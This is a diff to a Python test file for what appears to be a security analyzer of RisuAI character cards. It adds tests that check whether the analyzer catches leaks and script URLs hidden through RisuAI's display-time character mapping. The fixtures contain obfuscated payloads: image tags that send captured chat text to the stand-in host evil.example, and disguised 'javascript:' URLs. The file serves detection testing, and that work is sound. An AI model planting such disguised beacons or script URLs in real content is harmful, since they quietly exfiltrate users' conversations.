@@ -5,7 +5,7 @@
   ample/?q=$1`` leaked the matched text and ``javascript$n:`` was a script URL, unseen;
 * RisuAI's display map (``risuUnescape`` after the Markdown of a chat message: U+E9BE is
   ``:``, U+E9BF ``;``, U+E9BA/U+E9BB ``(``/``)``, U+E9B8/U+E9B9 ``{``/``}``, U+E9BC/U+E9BD
-  ``&lt;``/``&gt;``) made ``http\\ue9be//h`` an address and ``javascript\\ue9be`` a script
+  ``&lt;``/``&gt;``) made ``http\\ue9be/h`` an address and ``javascript\\ue9be`` a script
   URL, unseen; the background (shown without it) keeps them as they are;
 * CBS tags that give characters (``{{u::2f}}``, ``{{unicodedecode::58}}``, ``{{dec}}``,
   ``{{br}}`` ...) built schemes and slashes the readers did not see (they removed the tags);
@@ -23,6 +23,8 @@
 from __future__ import annotations
 
 from typing import Any
+
+import pytest
 
 from risutools.analysis import analyze
 from risutools.analysis.model import Analysis
@@ -73,3 +75,27 @@ def test_dollar_n_keeps_the_lines_of_the_text_as_written() -> None:
 def test_data_stays_what_it_is_the_match_is_dollar_amp() -> None:
     # RisuAI's ``.replace(/{{data}}/g, "$&")`` puts back the text it matched: a no-op
     assert any("h.example" in m for m in leaks(regex_out('<img src="https://h.example/?$&">')))
+
+
+# ---- RisuAI's display map ----------------------------------------------------------------
+
+@pytest.mark.parametrize("out", [
+    '<img src="http\ue9be/evil.example/?q=$1">',
+    '<img src="https\ue9be\\evil.example/?q=$1">',
+    '<img src="HTTP\ue9be/evil.example/?q=$1">',
+])
+def test_the_display_colon_makes_an_address(out: str) -> None:
+    assert any("evil.example" in m for m in leaks(regex_out(out)))
+
+
+def test_the_display_colon_makes_a_script_url_and_a_host() -> None:
+    assert "RA303" in rules(regex_out('<a href="javascript\ue9bealert(1)">x</a>'))
+    assert "evil.example" in hosts(regex_out('<img src="https\ue9be//evil.example/p.png">'))
+    greeting = analyze(Module({"name": "C", "id": "c", "cardFields": {
+        "first_mes": '<a href="javascript\ue9bealert(1)">x</a>'}}))
+    assert "RA303" in rules(greeting)
+
+
+def test_the_background_is_shown_without_the_display_map() -> None:
+    a = module(backgroundEmbedding='<a href="javascript\ue9bealert(1)">x</a>')
+    assert "RA303" not in rules(a)
